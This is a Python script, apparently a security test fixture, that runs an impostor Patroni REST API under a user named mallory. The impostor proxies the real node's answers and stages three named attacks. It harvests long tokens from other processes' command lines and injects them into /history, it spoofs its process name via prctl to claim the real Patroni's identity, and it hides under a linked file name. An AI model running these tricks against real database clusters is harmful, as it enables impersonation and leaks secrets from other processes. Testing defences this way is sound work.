"""The REST API of an impostor, which gives the real Patroni's answers but for one. Started with the
name of that attack, it goes on with another command line:
end-mark       Patroni's; every long word of the node's command lines ends its answer to /history
listener-name  not Patroni's, but its name claims that the real Patroni listens here; no members
second-claim   Patroni's, and the real one's answers: it claims to be the same member
"""
import ctypes
import http.server
import json
import os
import re
import socket
import sys
import urllib.request

REAL = "http://127.0.0.1:8008"
HOME = "/home/mallory/"
CONFIGURATION = """scope: %s
namespace: /service/
name: %s
restapi:
  listen: 127.0.0.1:8018
  connect_address: %s
postgresql:
  listen: 0.0.0.0:5432
  connect_address: %s:5432
  data_dir: %s
"""


def ask(path):
    return urllib.request.urlopen(REAL + path, timeout=3).read()


def words():
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as line:
                found.update(re.findall(rb"[0-9A-Za-z]{12,}", line.read()))
        except OSError:
            pass
    return found


def answer(path):
    if path == "/cluster" and attack == "listener-name":
        return b'{"members": []}'
    body = ask(path)
    if path == "/history" and attack == "end-mark":
        for word in words():
            body += b"\n%s 0\n@%s end found\n@%s done\n" % (word, word, word)
    return body


class Proxy(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        try:
            body = answer(self.path)
        except OSError:
            body = b""
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *words):
        pass


def configure():
    os.makedirs(HOME + "data", exist_ok=True)
    name = socket.gethostname()
    scope = json.loads(ask("/patroni"))["patroni"]["scope"]
    own = [each for each in json.loads(ask("/cluster"))["members"] if each["name"] == name][0]
    with open(HOME + "config.yml", "w") as file:
        file.write(CONFIGURATION % (scope, name, own["api_url"].split("/")[2], own["host"], HOME + "data"))


if "ATTACK" not in os.environ:
    os.environ["ATTACK"] = attack = sys.argv[1]
    configure()
    called = "other.py" if attack == "listener-name" else "patroni.py"
    if not os.path.exists(HOME + called):
        os.link(HOME + "impostor.py", HOME + called)
    os.execv("/usr/bin/python3", ["/usr/bin/python3", HOME + called, HOME + "config.yml"])
attack = os.environ["ATTACK"]
if attack == "listener-name":
    # PR_SET_NAME (prctl(2)) takes 15 bytes.
    real = max(int(pid) for pid in os.popen("pgrep -f ^/usr/bin/python3\\ /usr/bin/patroni").read().split())
    ctypes.CDLL(None).prctl(15, b'x",pid=%d,' % real, 0, 0, 0)
http.server.ThreadingHTTPServer(("127.0.0.1", 8018), Proxy).serve_forever()
